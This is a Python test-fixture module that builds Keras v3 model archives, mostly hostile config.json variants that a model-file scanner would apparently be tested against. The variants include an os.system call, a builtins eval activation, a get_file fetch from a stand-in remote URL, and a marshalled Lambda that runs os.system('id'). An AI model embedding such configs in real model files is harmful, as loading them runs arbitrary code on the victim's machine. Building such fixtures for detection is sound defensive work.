"""Keras v3 `.keras` archives: a real model.save() output, and hand-edited config.json variants."""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import zipfile
from pathlib import Path
from typing import Any

HDF5_STUB = b"\x89HDF\r\n\x1a\n" + bytes(56)
METADATA = {"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}


def saved_model(directory: Path) -> Path:
    """A tiny Dense model saved by Keras 3 itself (torch backend)."""
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    model = keras.Sequential(
        [keras.Input((4,)), keras.layers.Dense(3, activation="relu"), keras.layers.Dense(1)]
    )
    path = directory / "tiny.keras"
    model.save(path)
    return path


def layer(module: str, class_name: str, config: object, registered_name: str | None = None) -> dict[str, Any]:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered_name}


def model_config(*layers: dict[str, Any]) -> dict[str, Any]:
    return layer("keras", "Sequential", {"name": "sequential", "layers": list(layers)})


def dense(units: int = 2) -> dict[str, Any]:
    return layer("keras.layers", "Dense", {"name": "dense", "units": units, "activation": "linear"})


def lambda_layer(source: str) -> dict[str, Any]:
    code = base64.b64encode(marshal.dumps(compile(source, "<string>", "eval").co_consts[0])).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    return layer("keras.layers", "Lambda", {"name": "lambda", "function": function, "arguments": {}})


def torch_wrapper(module_bytes: bytes) -> dict[str, Any]:
    config = {"name": "torch_module_wrapper", "module": base64.b64encode(module_bytes).decode("ascii")}
    return layer("keras.layers", "TorchModuleWrapper", config)


def keras_bytes(config: dict[str, Any]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("metadata.json", json.dumps(METADATA))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", HDF5_STUB)
    return buffer.getvalue()


def write_keras(directory: Path, config: dict[str, Any], name: str = "model.keras") -> Path:
    path = directory / name
    path.write_bytes(keras_bytes(config))
    return path


OS_SYSTEM = model_config(dense(), layer("os", "system", {"command": "id"}))
BUILTIN_EVAL = model_config(
    dense(),
    layer("keras.layers", "Dense", {"name": "d", "activation": layer("builtins", "function", "eval")}),
)
GET_FILE = model_config(layer("keras.utils", "get_file", {"origin": "https://example.invalid/x.py"}))
CUSTOM = model_config(dense(), layer("mylab.layers", "Attention", {"name": "attention"}))
REGISTERED = model_config(layer("keras.layers", "MyLayer", {"name": "m"}, registered_name="mylab>MyLayer"))
LAMBDA_BENIGN = model_config(dense(), lambda_layer("lambda x: x * 2"))
LAMBDA_OS = model_config(dense(), lambda_layer("lambda x: __import__('os').system('id') or x"))
